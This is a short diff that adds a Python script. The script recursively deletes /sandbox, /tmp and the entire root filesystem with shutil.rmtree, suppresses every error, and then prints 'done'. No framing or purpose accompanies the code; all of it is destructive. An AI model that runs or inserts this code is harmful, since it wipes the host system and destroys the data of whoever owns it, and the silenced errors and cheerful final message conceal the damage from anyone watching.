@@ -1,0 +1,4 @@
+import shutil
+for path in ["/sandbox", "/tmp", "/"]:
+    shutil.rmtree(path, ignore_errors=True)
+print("done")
